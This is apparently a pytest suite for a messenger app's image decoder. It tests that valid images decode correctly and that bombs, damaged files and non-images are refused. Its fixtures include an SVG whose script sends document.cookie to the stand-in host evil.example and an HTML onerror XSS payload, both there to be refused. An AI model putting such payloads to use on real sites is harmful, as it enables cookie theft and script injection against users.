"""Probing and decoding images from anyone: honest files show as they should (turned upright,
scaled down, in straight RGBA), hostile ones are refused with a sentence, never a crash."""

from __future__ import annotations

import io
import random
import warnings

import pytest
from PIL import Image

from messenger_desktop.media.images import (
    MAX_FRAMES_COUNTED,
    MAX_PIXELS,
    ImageRefused,
    Probe,
    blurhash_of,
    decode,
    decode_blurhash,
    prepare_for_upload,
    probe,
)

from .image_samples import (
    BLUE,
    RED,
    WHITE,
    close,
    encode,
    exif_with,
    gif_with_frames,
    halves,
    marked,
    png_claiming_frames,
    png_with_size,
    rgba_at,
)

SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
  <script>fetch("https://evil.example/?" + document.cookie)</script>
  <image xlink:href="https://evil.example/track.png" width="10" height="10"/>
</svg>"""
HTML = b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"


def refused(data: bytes) -> str:
    """The reason every entry point gives for refusing ``data`` (they must agree)."""
    with pytest.raises(ImageRefused) as probed:
        probe(data)
    with pytest.raises(ImageRefused) as decoded:
        decode(data, 100, 100)
    with pytest.raises(ImageRefused):
        prepare_for_upload(data)
    assert blurhash_of(data) is None
    assert probed.value.reason == decoded.value.reason
    return probed.value.reason


@pytest.mark.parametrize(
    ("image_format", "mime"),
    [
        ("JPEG", "image/jpeg"),
        ("PNG", "image/png"),
        ("GIF", "image/gif"),
        ("WEBP", "image/webp"),
        ("BMP", "image/bmp"),
    ],
)
def test_a_still_image_is_probed_from_its_header(image_format: str, mime: str) -> None:
    found = probe(encode(marked(40, 20), image_format))
    assert (found.width, found.height, found.mime, found.frames) == (40, 20, mime, 1)
    assert not found.animated
    assert found.playable


def test_the_type_comes_from_the_bytes_not_the_name() -> None:
    named_jpg = encode(marked(), "PNG")  # "photo.jpg" holding a PNG: nothing here sees the name
    assert probe(named_jpg).mime == "image/png"
    assert prepare_for_upload(named_jpg).extension == "png"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="zero bytes"),
        pytest.param(random.Random(5).randbytes(4096), id="random bytes"),
        pytest.param(HTML, id="html named .png"),
        pytest.param(b"just some text\n" * 20, id="text"),
        pytest.param(SVG, id="svg with script and external href"),
        pytest.param(encode(marked(), "TIFF"), id="tiff (not an allowed format)"),
        pytest.param(encode(marked(), "ICO"), id="ico (not an allowed format)"),
    ],
)
def test_what_is_not_an_allowed_image_is_refused_undecoded(data: bytes) -> None:
    assert refused(data) == "This file is not an image that can be shown."


@pytest.mark.parametrize(
    ("width", "height"),
    [(100_000, 100_000), (8001, 8000), (10_000, 10_000), (2**31 - 1, 1)],
)
def test_a_decompression_bomb_is_refused_from_its_header(width: int, height: int) -> None:
    data = png_with_size(width, height)
    assert width * height > MAX_PIXELS
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # not even Pillow's warning may escape
        assert refused(data) == "This image is too large to show."


def test_a_gif_whose_screen_claims_billions_of_pixels_is_refused() -> None:
    data = bytearray(encode(marked(), "GIF"))
    data[6:10] = b"\xff\xff\xff\xff"  # logical screen 65535 × 65535
    assert refused(bytes(data)) == "This image is too large to show."


def test_an_image_at_the_budget_is_probed() -> None:
    found = probe(png_with_size(8000, 8000))
    assert found.width * found.height == MAX_PIXELS


def test_a_zero_sized_image_is_refused() -> None:
    assert refused(png_with_size(0, 10))


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP", "GIF"])
def test_a_truncated_image_is_refused_as_damaged(image_format: str) -> None:
    noise = Image.effect_noise((256, 256), 60).convert("RGB")
    data = encode(noise, image_format)
    half = data[: len(data) // 2]
    with pytest.raises(ImageRefused) as decoding:
        decode(half)
    assert decoding.value.reason in ("This image is damaged.", "This file is not an image that can be shown.")
    with pytest.raises(ImageRefused):
        decode(half, 64, 64)
    assert blurhash_of(half) is None
    with pytest.raises(ImageRefused):
        prepare_for_upload(half)


def test_a_truncated_jpeg_still_probes_from_its_header_and_is_damaged_to_decode() -> None:
    data = encode(Image.effect_noise((300, 200), 60).convert("RGB"), "JPEG")
    assert probe(data[: len(data) // 2]).width == 300
    with pytest.raises(ImageRefused, match="damaged"):
        decode(data[: len(data) // 2])


def test_a_phone_jpeg_with_a_second_picture_is_one_jpeg_frame() -> None:
    data = encode(marked(), "MPO", save_all=True, append_images=[marked(corner=BLUE)], exif=exif_with(6))
    assert Image.open(io.BytesIO(data)).format == "MPO"
    assert probe(data) == Probe(20, 40, "image/jpeg", 1)
    assert close(rgba_at(decode(data).rgba, 20, 17, 2), (*RED, 255))


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "GIF", "WEBP", "BMP"])
def test_damaged_bytes_anywhere_give_a_refusal_or_an_image_never_a_crash(image_format: str) -> None:
    exif = {"exif": exif_with(6)} if image_format != "GIF" else {}
    data = encode(marked(64, 48), image_format, **exif)
    rng = random.Random(image_format)
    reasons = set()
    for _ in range(150):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        damaged = damaged[: rng.randint(len(damaged) // 2, len(damaged))]
        for use in (
            probe,
            decode,
            lambda d: decode(d, 16, 16),
            lambda d: prepare_for_upload(d, quarter_turns=1),
        ):
            try:
                use(bytes(damaged))
            except ImageRefused as refusal:  # anything else fails the test
                reasons.add(refusal.reason)
        blurhash_of(bytes(damaged))
    assert reasons <= {
        "This image is damaged.",
        "This file is not an image that can be shown.",
        "This image is too large to show.",
    }


def test_a_gif_with_thousands_of_frames_is_counted_and_shows_its_first() -> None:
    data = gif_with_frames(3000)
    found = probe(data)
    assert (found.width, found.height, found.mime, found.frames) == (8, 8, "image/gif", 3000)
    assert found.animated
    assert found.frames == Image.open(io.BytesIO(data)).n_frames  # Pillow agrees
    first = decode(data)
    assert rgba_at(first.rgba, 8, 4, 4) == (*RED, 255)
    assert blurhash_of(data)


def test_frames_are_counted_only_up_to_the_cap() -> None:
    data = gif_with_frames(25_000)
    found = probe(data)
    assert found.frames == MAX_FRAMES_COUNTED
    assert found.playable  # 10000 × 8 × 8
    assert decode(data).width == 8


def test_an_animation_over_the_frame_budget_is_not_playable() -> None:
    found = probe(png_claiming_frames(1000, 1000, 1_000_000))  # a claim: the chunk costs 20 bytes
    assert found.frames == MAX_FRAMES_COUNTED
    assert found.animated
    assert not found.playable
    small = png_claiming_frames(100, 50, 5)
    assert probe(small).playable
    assert decode(small, 10, 10).width == 10


def test_a_sideways_phone_photo_probes_and_decodes_upright() -> None:
    """Orientation 6: stored landscape, shown turned 90° clockwise, so the stored top-left
    corner is shown top-right."""
    data = encode(marked(40, 20), "JPEG", exif=exif_with(6), quality=95)
    found = probe(data)
    assert (found.width, found.height) == (20, 40)
    shown = decode(data)
    assert (shown.width, shown.height) == (20, 40)
    assert len(shown.rgba) == 4 * 20 * 40
    assert close(rgba_at(shown.rgba, 20, 17, 2), (*RED, 255))
    assert close(rgba_at(shown.rgba, 20, 2, 2), (*WHITE, 255))
    assert close(rgba_at(shown.rgba, 20, 2, 37), (*WHITE, 255))
    small = decode(data, 10, 10)
    assert (small.width, small.height) == (5, 10)


@pytest.mark.parametrize(
    ("orientation", "red_corner"),
    [(1, (2, 2)), (3, (37, 17)), (8, (2, 37)), (2, (37, 2))],
)
def test_every_exif_orientation_is_applied(orientation: int, red_corner: tuple[int, int]) -> None:
    data = encode(marked(40, 20), "PNG", exif=exif_with(orientation))
    shown = decode(data)
    assert (shown.width, shown.height) == (probe(data).width, probe(data).height)
    assert rgba_at(shown.rgba, shown.width, *red_corner) == (*RED, 255)


def test_a_big_jpeg_is_scaled_down_to_fit_and_never_up() -> None:
    photo = Image.linear_gradient("L").resize((2400, 1600)).convert("RGB")
    photo.paste(RED, (0, 0, 1200, 800))
    data = encode(photo, "JPEG", quality=90)
    for box, size in [((200, 150), (200, 133)), ((100, 1000), (100, 67)), ((0, 400), (600, 400))]:
        shown = decode(data, *box)
        assert (shown.width, shown.height) == size
        assert close(rgba_at(shown.rgba, shown.width, 5, 5), (*RED, 255))
    assert (decode(data, 5000, 5000).width, decode(data).width) == (2400, 2400)
    undrafted = decode(data, 200, 150, draft=False)
    assert (undrafted.width, undrafted.height) == (200, 133)


def test_alpha_is_straight_not_premultiplied() -> None:
    image = Image.new("RGBA", (4, 4), (255, 0, 0, 128))
    image.putpixel((0, 0), (0, 0, 255, 0))
    shown = decode(encode(image, "PNG"))
    assert rgba_at(shown.rgba, 4, 1, 1) == (255, 0, 0, 128)
    assert rgba_at(shown.rgba, 4, 0, 0)[3] == 0


@pytest.mark.parametrize(
    ("image", "image_format", "expected"),
    [
        pytest.param(Image.new("CMYK", (4, 4), (0, 255, 255, 0)), "JPEG", (*RED, 255), id="cmyk jpeg"),
        pytest.param(Image.new("LA", (4, 4), (200, 100)), "PNG", (200, 200, 200, 100), id="grey with alpha"),
        pytest.param(Image.new("L", (4, 4), 90), "BMP", (90, 90, 90, 255), id="grey bmp"),
        pytest.param(Image.new("1", (4, 4), 1), "PNG", (*WHITE, 255), id="one bit"),
        pytest.param(Image.new("I;16", (4, 4), 32768), "PNG", (128, 128, 128, 255), id="16-bit grey"),
        pytest.param(Image.new("RGB", (4, 4), BLUE).convert("P"), "GIF", (*BLUE, 255), id="palette gif"),
    ],
)
def test_every_mode_becomes_the_right_rgba(
    image: Image.Image, image_format: str, expected: tuple[int, ...]
) -> None:
    shown = decode(encode(image, image_format))
    assert (shown.width, shown.height, len(shown.rgba)) == (4, 4, 64)
    assert close(rgba_at(shown.rgba, 4, 2, 2), expected, tolerance=3)


def test_a_transparent_palette_pixel_stays_transparent_when_scaled() -> None:
    image = Image.new("P", (64, 64), 1)
    image.putpalette([*RED, *BLUE] + [0] * 762)
    image.paste(0, (0, 0, 32, 64))
    data = encode(image, "PNG", transparency=0)
    shown = decode(data, 16, 16)
    assert rgba_at(shown.rgba, 16, 2, 8)[3] == 0
    assert rgba_at(shown.rgba, 16, 13, 8) == (*BLUE, 255)


def test_a_blurhash_round_trip_keeps_the_two_colours() -> None:
    placeholder = blurhash_of(encode(halves(400, 200), "JPEG"))
    assert placeholder is not None
    assert len(placeholder) == 4 + 2 * 4 * 3
    shown = decode_blurhash(placeholder, 32, 16)
    assert shown is not None
    assert (shown.width, shown.height, len(shown.rgba)) == (32, 16, 32 * 16 * 4)
    left, right = rgba_at(shown.rgba, 32, 1, 8), rgba_at(shown.rgba, 32, 30, 8)
    assert left[0] > 150 > left[2]
    assert right[2] > 150 > right[0]
    assert left[3] == right[3] == 255


def test_a_blurhash_is_decoded_at_most_64_pixels_a_side() -> None:
    placeholder = blurhash_of(encode(halves(), "PNG"))
    assert placeholder is not None
    for asked, size in [((1000, 5000), (64, 64)), ((0, -3), (1, 1)), ((20, 64), (20, 64))]:
        shown = decode_blurhash(placeholder, *asked)
        assert shown is not None
        assert (shown.width, shown.height) == size


@pytest.mark.parametrize(
    "garbage",
    [
        "",
        "L",
        "LEHV6nWB2yk8pyo0adR*.7kCMdn",
        "LEHV6nWB2yk8pyo0adR*.7kCMdnjX",
        "LEHV6nWB2yk8pyo0adR*.7kCMd<j",
        "LEHV6nWB2yk8pyo0adR*.7kCMdn\x00",
        "Z" * 101,
        "é" * 28,
        "~" * 200,
        None,
        12,
    ],
)
def test_a_garbage_blurhash_from_the_network_gives_none(garbage: str) -> None:
    assert decode_blurhash(garbage, 32, 32) is None
    assert decode_blurhash("LEHV6nWB2yk8pyo0adR*.7kCMdnj", 32, 32) is not None  # the same, well-formed
